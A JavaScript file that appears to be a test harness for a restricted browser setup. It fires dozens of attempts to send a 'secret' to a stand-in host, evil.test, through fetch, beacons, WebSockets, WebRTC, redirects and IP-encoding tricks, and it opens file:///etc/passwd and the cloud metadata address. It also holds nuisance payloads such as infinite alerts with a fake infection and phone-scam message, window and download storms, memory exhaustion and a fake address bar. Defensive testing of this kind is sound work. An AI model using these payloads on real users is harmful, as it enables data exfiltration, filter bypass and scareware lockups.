// The attacks of hostile.caf.fr. Each one aims at a host of its own below the forbidden one, so that
// whoever listens there knows by the name which one got through.
'use strict';
const wish = new URLSearchParams(location.search);
const forbidden = wish.get('hote') || 'evil.test';
const port = wish.get('port') ? ':' + wish.get('port') : '';
const at = name => name + '.' + forbidden + port;
const url = name => 'https://' + at(name) + '/vol?secret=42';
const through = (name, code = 302) => '/redirection?code=' + code + '&vers=' + encodeURIComponent(url(name));
const attacks = {};
const quietly = work => { try { const p = work(); if (p && p.catch) p.catch(() => {}); } catch (e) { /* fine */ } };

function put(tag, values, parent = document.body) {
  const element = document.createElement(tag);
  Object.assign(element, values);
  parent.append(element);
  return element;
}
function post(action, target = '') {
  const form = put('form', {method: 'post', action, target});
  put('input', {type: 'hidden', name: 'secret', value: 'mot de passe volé'}, form);
  form.submit();
}
function frame(values) { return put('iframe', {...values, width: 10, height: 10}); }

// kind: quiet, the page stays where it is
attacks['image'] = n => put('img', {src: url(n)});
attacks['image-302'] = n => put('img', {src: through(n)});
attacks['style'] = n => put('link', {rel: 'stylesheet', href: url(n)});
attacks['script'] = n => put('script', {src: url(n)});
attacks['module'] = n => import(url(n));
attacks['font'] = n => new FontFace('vol', 'url("' + url(n) + '")').load();
attacks['video'] = n => put('video', {src: url(n), preload: 'auto'});
attacks['object'] = n => put('object', {data: url(n)});
attacks['fetch'] = n => fetch(url(n), {mode: 'no-cors'});
attacks['fetch-302'] = n => fetch(through(n), {mode: 'no-cors'});
attacks['fetch-post'] = n => fetch(url(n), {method: 'POST', mode: 'no-cors', body: 'secret'});
attacks['fetch-post-307'] = n => fetch(through(n, 307), {method: 'POST', mode: 'no-cors', body: 'secret'});
attacks['fetch-keepalive'] = n => fetch(url(n), {method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret'});
attacks['xhr'] = n => { const x = new XMLHttpRequest(); x.open('POST', url(n)); x.send('secret'); };
attacks['beacon'] = n => navigator.sendBeacon(url(n), 'secret');
attacks['event-source'] = n => new EventSource(url(n));
attacks['ping'] = n => put('a', {href: '#', ping: url(n)}).click();
attacks['iframe'] = n => frame({src: url(n)});
attacks['iframe-302'] = n => frame({src: through(n)});
attacks['iframe-srcdoc'] = n => frame({srcdoc: '<img src="' + url(n) + '">'});
attacks['iframe-data'] = n => frame({src: 'data:text/html,<img src="' + url(n) + '">'});
attacks['iframe-meta'] = n => frame({src: '/meta?vers=' + encodeURIComponent(url(n))});
attacks['iframe-post-307'] = n => { frame({name: 'cadre'}); post(through(n, 307), 'cadre'); };
attacks['websocket'] = n => new WebSocket('wss://' + at(n) + '/');
attacks['worker-websocket'] = n => new Worker('/ouvrier.js?vers=' + at(n));
attacks['shared-worker-websocket'] = n => new SharedWorker('/ouvrier.js?vers=' + at(n));
attacks['service-worker-websocket'] = n => navigator.serviceWorker.register('/ouvrier.js?vers=' + at(n));
attacks['preconnect'] = n => put('link', {rel: 'preconnect', href: 'https://' + at(n)}, document.head);
attacks['dns-prefetch'] = n => put('link', {rel: 'dns-prefetch', href: 'https://' + at(n)}, document.head);
attacks['prefetch'] = n => put('link', {rel: 'prefetch', href: url(n)}, document.head);
attacks['preload'] = n => put('link', {rel: 'preload', as: 'image', href: url(n)}, document.head);
attacks['module-preload'] = n => put('link', {rel: 'modulepreload', href: url(n)}, document.head);
attacks['speculation'] = n => put('script', {type: 'speculationrules', textContent: JSON.stringify(
  {prefetch: [{source: 'list', urls: [url(n)]}], prerender: [{source: 'list', urls: [url(n)]}]})}, document.head);
attacks['manifest'] = n => put('link', {rel: 'manifest', href: url(n)}, document.head);
attacks['icon'] = n => put('link', {rel: 'icon', href: url(n)}, document.head);
attacks['web-transport'] = n => { const w = new WebTransport(url(n)); w.closed.catch(() => {}); return w.ready; };
attacks['stun'] = n => talk({urls: 'stun:' + at(n)});
attacks['stun-ip'] = () => talk({urls: 'stun:127.0.0.1' + port});
attacks['turn-udp'] = n => talk({urls: 'turn:' + at(n) + '?transport=udp', username: 'u', credential: 'c'});
attacks['turn-tcp'] = n => talk({urls: 'turn:' + at(n) + '?transport=tcp', username: 'u', credential: 'c'});
attacks['turns'] = n => talk({urls: 'turns:' + at(n) + '?transport=tcp', username: 'u', credential: 'c'});
attacks['plain-http'] = n => fetch('http://' + at(n) + '/vol', {mode: 'no-cors'});
attacks['rebind'] = () => fetch('https://rebind.caf.fr' + port + '/vol?attaque=rebind', {mode: 'no-cors'});
attacks['trailing-dot'] = n => fetch('https://' + n + '.' + forbidden + '.' + port + '/vol', {mode: 'no-cors'});
attacks['user-info'] = n => put('img', {src: 'https://www.caf.fr@' + at(n) + '/vol'});
attacks['ip-dotted'] = () => literal('127.0.0.1');
attacks['ip-decimal'] = () => literal('2130706433');
attacks['ip-hexadecimal'] = () => literal('0x7f000001');
attacks['ip-octal'] = () => literal('0177.0.0.1');
attacks['ip-short'] = () => literal('127.1');
attacks['ip-six'] = () => literal('[::1]');
attacks['ip-mapped'] = () => literal('[::ffff:127.0.0.1]');
attacks['ip-town-hall'] = () => literal('192.168.1.1');
attacks['ip-metadata'] = () => literal('169.254.169.254');

// kind: leaving, the page or a new one goes elsewhere
attacks['location'] = n => { location.href = url(n); };
attacks['location-302'] = n => { location.href = through(n); };
attacks['post'] = n => post(url(n));
attacks['post-307'] = n => post(through(n, 307));
attacks['meta'] = n => { location.href = '/meta?vers=' + encodeURIComponent(url(n)); };
attacks['form-blank'] = n => post(url(n), '_blank');
attacks['window-open'] = n => window.open(url(n));
attacks['window-open-302'] = n => window.open(through(n));
attacks['ip-page'] = () => { location.href = 'https://2130706433' + port + '/vol'; };
attacks['port-page'] = () => { location.href = 'https://www.caf.fr:8443/vol'; };
attacks['file'] = () => { location.href = 'file:///etc/passwd'; };
attacks['chrome'] = () => { location.href = 'chrome://gpu'; };
attacks['view-source'] = () => { location.href = 'view-source:https://www.caf.fr/'; };
attacks['data-page'] = () => { location.href = 'data:text/html,<h1>faux site</h1>'; };
attacks['mail'] = () => { location.href = 'mailto:vol@evil.test'; };
attacks['program'] = () => { location.href = 'intent://evil.test#Intent;scheme=http;end'; };

// kind: nuisance, the citizen must stay master of the screen
attacks['alert-loop'] = () => { for (;;) alert('Votre ordinateur est infecté ! Appelez le 01 23 45 67 89.'); };
attacks['print-loop'] = () => setInterval(() => print(), 50);
attacks['fullscreen'] = () => document.documentElement.requestFullscreen();
attacks['beforeunload-trap'] = () => { addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'Restez !'; }); };
attacks['history-trap'] = () => { for (let n = 0; n < 200; n++) history.pushState(n, '', '#' + n); onpopstate = () => history.pushState(0, '', '#piege'); };
attacks['window-storm'] = () => { for (let n = 0; n < 200; n++) window.open('/?tempete=' + n); };
attacks['download-storm'] = () => setInterval(() => put('a', {href: 'data:application/octet-stream,vol', download: 'vol.exe'}).click(), 100);
attacks['allocation'] = () => { const kept = []; for (;;) kept.push(new Uint8Array(64 << 20).fill(1)); };
attacks['endless-loop'] = () => { for (;;); };
attacks['permission-storm'] = () => { quietly(() => Notification.requestPermission()); navigator.geolocation.getCurrentPosition(() => {}); quietly(() => navigator.mediaDevices.getUserMedia({video: true})); };
attacks['restless'] = () => {
  const field = put('input', {autofocus: true}); field.focus();
  setInterval(() => { field.value += 'a'; field.dispatchEvent(new KeyboardEvent('keydown', {key: 'a'})); scrollBy(0, 1); }, 40);
  setInterval(() => document.body.dispatchEvent(new MouseEvent('mousemove', {clientX: Math.random() * 99})), 40);
  const film = document.createElement('canvas'), brush = film.getContext('2d');
  setInterval(() => { brush.fillStyle = '#' + Math.random().toString(16).slice(2, 8); brush.fillRect(0, 0, 300, 150); }, 30);
  const video = put('video', {muted: true, srcObject: film.captureStream()}); quietly(() => video.play());
  put('p', {textContent: '…'}).animate([{opacity: 0}, {opacity: 1}], {duration: 500, iterations: Infinity});
};
attacks['speech'] = () => speechSynthesis.speak(new SpeechSynthesisUtterance('Votre ordinateur est infecté'));
attacks['fake-bar'] = () => put('div', {textContent: 'Vous êtes sur le vrai site : www.caf.fr', style: 'position:fixed;inset:0 0 auto;background:#fff;padding:30px;z-index:99'});

function literal(host) {
  put('img', {src: 'https://' + host + port + '/vol'});
  frame({src: 'https://' + host + port + '/vol'});
  quietly(() => fetch('http://' + host + port + '/vol', {mode: 'no-cors'}));
  quietly(() => new WebSocket('wss://' + host + port + '/vol'));
}
async function talk(server) {
  const peer = new RTCPeerConnection({iceServers: [server]});
  peer.createDataChannel('vol');
  await peer.setLocalDescription(await peer.createOffer());
  (window.peers ||= []).push(peer);
}

const quiet = Object.keys(attacks).slice(0, Object.keys(attacks).indexOf('location'));
function attack(name) { quietly(() => attacks[name](name)); }
function attackAll() {
  quiet.forEach(attack);
  document.getElementById('resultat').textContent = quiet.length + ' attaques lancées';
  document.title = 'attaques : ' + quiet.length;
}
for (const name of Object.keys(attacks)) document.getElementById('attaque-' + name).onclick = () => attack(name);
document.getElementById('tout').onclick = attackAll;
addEventListener('load', () => {
  const name = wish.get('attaque');
  // later, so that the load is over and a redirect counts as one of ours
  if (name) setTimeout(() => name === 'tout' ? attackAll() : attack(name), 100);
});
